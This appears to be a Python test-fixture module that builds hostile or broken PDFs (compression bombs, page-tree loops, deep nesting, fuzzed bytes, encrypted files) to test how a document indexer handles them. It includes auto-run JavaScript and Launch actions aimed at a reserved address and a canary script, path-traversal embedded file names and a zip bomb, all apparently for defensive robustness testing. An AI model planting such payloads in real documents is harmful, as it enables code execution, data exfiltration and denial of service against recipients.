"""PDF files that are hostile or broken."""

import io
import zlib
from collections.abc import Callable

from nasty_case import TEXT, Case, content, flipped, made, zipped

SHOWN = f"BT /F1 12 Tf 72 700 Td ({TEXT}) Tj ET".encode()
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of objects numbered from 1, the first of which is the catalogue."""
    out = b"%PDF-1.7\n"
    places = []
    for number, written in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, written)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, len(out))
    return out + head + table + end


def stream(data: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (more, len(data), data)


def packed(data: bytes, times: int = 1) -> bytes:
    """A stream object that is deflated, several times over where asked for."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter[" + b"/FlateDecode" * times + b"]")


def page(
    body: bytes = b"",
    *more: bytes,
    catalogue: bytes = b"",
    resources: bytes = b"",
    box: bytes = b"0 0 612 792",
    entries: bytes = b"",
) -> bytes:
    """A PDF of one page with this content stream (object 4); more objects from 6."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>%s>>%s>>"
        % (box, resources, entries),
        body or stream(SHOWN),
        FONT,
        *more,
    )


def pages(kids: bytes, count: int, *more: bytes) -> bytes:
    """A PDF whose page tree says this of its kids; object 3 is a page."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        stream(SHOWN),
        FONT,
        *more,
    )


def deep_tree(levels: int) -> bytes:
    """A page tree in which each node has one child."""
    nodes = [b"<</Type/Pages/Count 1/Kids[%d 0 R]/Parent %d 0 R>>" % (7 + at, 5 + at) for at in range(levels - 1)]
    return pages(b"6 0 R", 1, *nodes, b"<</Type/Pages/Count 1/Kids[3 0 R]>>")


def many_pages() -> bytes:
    """A hundred thousand pages of their own."""
    kids = b" ".join(b"%d 0 R" % number for number in range(6, 100_006))
    one = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"
    return pages(kids, 100_000, *[one] * 100_000)


def fan_out(levels: int = 12) -> bytes:
    """Drawings that each draw the next one ten times."""
    forms = [
        stream(
            b" ".join([b"/X Do"] * 10),
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (7 + at),
        )
        for at in range(levels)
    ]
    end = stream(SHOWN, b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</Font<</F1 5 0 R>>>>")
    return page(stream(SHOWN + b" /X Do"), *forms, end, resources=b"/XObject<</X 6 0 R>>")


def itself() -> bytes:
    """A drawing that draws itself."""
    form = stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    return page(stream(SHOWN + b" /X Do"), form, resources=b"/XObject<</X 6 0 R>>")


def picture(width: int, height: int, data: bytes) -> bytes:
    """A page without text that shows a picture of so many pixels."""
    said = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode"
    image = stream(zlib.compress(data), said % (width, height))
    return page(stream(b"q 600 0 0 700 0 0 cm /X Do Q"), image, resources=b"/XObject<</X 6 0 R>>")


def long_mapping() -> bytes:
    """A font that says that each letter stands for hundreds."""
    letters = b"".join(b"<%02X> <%s>\n" % (code, b"0041" * 500) for code in range(32, 127))
    mapping = stream(
        b"begincmap 1 begincodespacerange <00> <FF> endcodespacerange\n95 beginbfchar\n%sendbfchar" % letters
    )
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    body = b"BT /F2 12 Tf 72 700 Td " + b"".join(b"(%s) Tj 0 -12 Td " % TEXT.encode() for _ in range(8)) + b"ET"
    return page(stream(body), mapping, font, resources=b"/Font<</F1 5 0 R/F2 7 0 R>>")


def embedded(files: dict[str, bytes]) -> bytes:
    """A page with files inside the PDF."""
    names = b"".join(b"(%s) %d 0 R " % (name.encode(), 6 + 2 * at) for at, name in enumerate(files))
    objects = []
    for at, (name, data) in enumerate(files.items()):
        objects.append(b"<</Type/Filespec/F(%s)/EF<</F %d 0 R>>>>" % (name.encode(), 7 + 2 * at))
        objects.append(stream(data, b"/Type/EmbeddedFile"))
    return page(b"", *objects, catalogue=b"/Names<</EmbeddedFiles<</Names[%s]>>>>" % names)


def russian_doll(depth: int = 8) -> bytes:
    """A PDF in a PDF in a PDF …"""
    inner = page()
    for level in range(depth):
        inner = embedded({f"level{level}.pdf": inner})
    return inner


def locked(user: str) -> Callable[[], bytes]:
    """An encrypted PDF, with this password for those who read it."""

    def write() -> bytes:
        from pypdf import PdfReader, PdfWriter

        writer = PdfWriter(PdfReader(io.BytesIO(page())))
        writer.encrypt(user, "owner's", algorithm="RC4-128")
        file = io.BytesIO()
        writer.write(file)
        return file.getvalue()

    return write


def looped_previous() -> bytes:
    """A cross-reference table that names itself as the one before it."""
    return page().replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % page().rindex(b"xref\n0"))


def _action(what: bytes) -> bytes:
    return page(catalogue=b"/OpenAction<<%s>>/AA<</WC<<%s>>>>" % (what, what), entries=b"/AA<</O<<%s>>>>" % what)


SOUND = page()
SAVE = r"again|print it anew"
CASES = (
    Case(
        "pdf/bomb.pdf", made(lambda: page(packed(bytes(100_000_000), 2))), "refused partly", "no text|page|longer|more"
    ),
    Case("pdf/bomb_1gb.pdf", made(lambda: page(packed(bytes(1_000_000_000), 2))), "refused partly", large=True),
    Case("pdf/bomb_words.pdf", made(lambda: page(packed(SHOWN * 300_000))), "refused partly", large=True),
    Case("pdf/bomb_filters.pdf", made(lambda: page(packed(SHOWN, 60))), "indexed refused partly"),
    Case("pdf/pages_100000.pdf", made(many_pages), "refused", "more than 5,000 pages: split it", large=True),
    Case("pdf/pages_same.pdf", made(lambda: pages(b"3 0 R " * 100_000, 100_000)), "refused", "5,000 pages: split"),
    Case("pdf/pages_claimed.pdf", made(lambda: pages(b"3 0 R", 2_000_000_000)), "refused indexed partly"),
    Case("pdf/pages_negative.pdf", made(lambda: pages(b"3 0 R", -7)), "refused indexed", ""),
    Case("pdf/pages_loop.pdf", made(lambda: pages(b"2 0 R 3 0 R", 2)), "refused indexed partly"),
    Case("pdf/pages_deep.pdf", made(lambda: deep_tree(5_000)), "refused indexed partly"),
    Case("pdf/arrays_deep.pdf", made(lambda: page(b"", b"[" * 100_000 + b"]" * 100_000)), "indexed"),
    Case("pdf/content_deep.pdf", made(lambda: page(stream(b"[" * 200_000 + SHOWN))), "refused indexed partly"),
    Case("pdf/states_deep.pdf", made(lambda: page(stream(b"q " * 200_000 + SHOWN))), "indexed"),
    Case("pdf/draws_itself.pdf", made(itself), "indexed"),
    Case("pdf/draws_a_billion.pdf", made(fan_out), "refused partly", "no text|split it|left out", large=True),
    Case("pdf/xref_loop.pdf", made(looped_previous), "indexed refused"),
    Case("pdf/xref_none.pdf", made(lambda: SOUND[: SOUND.rindex(b"xref\n0")]), "indexed refused"),
    Case("pdf/xref_wrong.pdf", made(lambda: SOUND.replace(b"\nstartxref\n", b"\nstartxref\n99")), "indexed refused"),
    Case(
        "pdf/outline_loop.pdf",
        made(
            lambda: page(
                b"",
                b"<</First 7 0 R/Last 7 0 R/Count 1>>",
                b"<</Title(Seals)/Parent 6 0 R/Next 7 0 R/First 7 0 R/Dest[3 0 R/Fit]>>",
                catalogue=b"/Outlines 6 0 R",
            )
        ),
        "indexed",
    ),
    Case(
        "pdf/form_loop.pdf",
        made(
            lambda: page(
                b"", b"<</T(a)/Kids[6 0 R]/Parent 6 0 R/FT/Tx/V(x)>>", catalogue=b"/AcroForm<</Fields[6 0 R]>>"
            )
        ),
        "indexed partly",
    ),
    Case(
        "pdf/names_loop.pdf",
        made(lambda: page(b"", b"<</Kids[6 0 R]>>", catalogue=b"/Names<</EmbeddedFiles 6 0 R>>")),
        "indexed partly",
    ),
    Case(
        "pdf/length_loop.pdf", made(lambda: page(b"<</Length 4 0 R>>stream\n%s\nendstream" % SHOWN)), "indexed refused"
    ),
    Case("pdf/locked.pdf", made(locked("secret")), "refused", "password: save an unprotected copy"),
    Case("pdf/locked_for_owner.pdf", made(locked("")), "indexed"),
    Case("pdf/cut_short.pdf", content(SOUND[: len(SOUND) // 2]), "refused", SAVE),
    Case("pdf/head_only.pdf", content(b"%PDF-1.7\n"), "refused", SAVE),
    Case("pdf/head_late.pdf", content(b"\n" * 3000 + SOUND), "refused indexed", SAVE),
    Case("pdf/fuzzed_1.pdf", content(flipped(SOUND, 1, 0.01)), "refused indexed partly"),
    Case("pdf/fuzzed_2.pdf", content(flipped(SOUND, 2, 0.03)), "refused indexed partly"),
    Case("pdf/fuzzed_3.pdf", content(flipped(SOUND, 3, 0.1)), "refused indexed partly"),
    Case("pdf/box_huge.pdf", made(lambda: page(box=b"0 0 2000000000 2000000000")), "indexed partly"),
    Case("pdf/box_none.pdf", made(lambda: page(box=b"0 0 0 0")), "indexed partly refused"),
    Case("pdf/far_away.pdf", content(page(stream(SHOWN.replace(b"72 700", b"1e30 -1e30")))), "indexed partly refused"),
    Case("pdf/picture_60000.pdf", made(lambda: picture(60_000, 60_000, bytes(60_000 * 100))), "refused partly"),
    Case("pdf/mapping_long.pdf", made(long_mapping), "indexed partly refused"),
    Case(
        "pdf/javascript.pdf", content(_action(b"/S/JavaScript/JS(app.launchURL\\('http://192.0.2.1/'\\))")), "indexed"
    ),
    Case("pdf/launch.pdf", content(_action(b"/S/Launch/F(canary.sh)/Unix<</F(canary.sh)>>")), "indexed"),
    Case("pdf/fetches.pdf", content(_action(b"/S/SubmitForm/F<</FS/URL/F(http://192.0.2.1/x)>>")), "indexed"),
    Case(
        "pdf/embedded.pdf",
        made(
            lambda: embedded(
                {
                    "../../canary.txt": TEXT.encode(),
                    "tool.exe": b"MZ\0\0" * 99,
                    "/etc/canary.csv": b"Seal,Date\nA1,2026-01-02\n",
                    "bomb.zip": zipped({"a": bytes(9_000_000)}),
                }
            )
        ),
        "indexed",
    ),
    Case("pdf/embedded_deep.pdf", made(russian_doll), "indexed"),
    Case("pdf/and_a_zip.pdf", content(SOUND + zipped({"canary.txt": TEXT})), "indexed"),
)
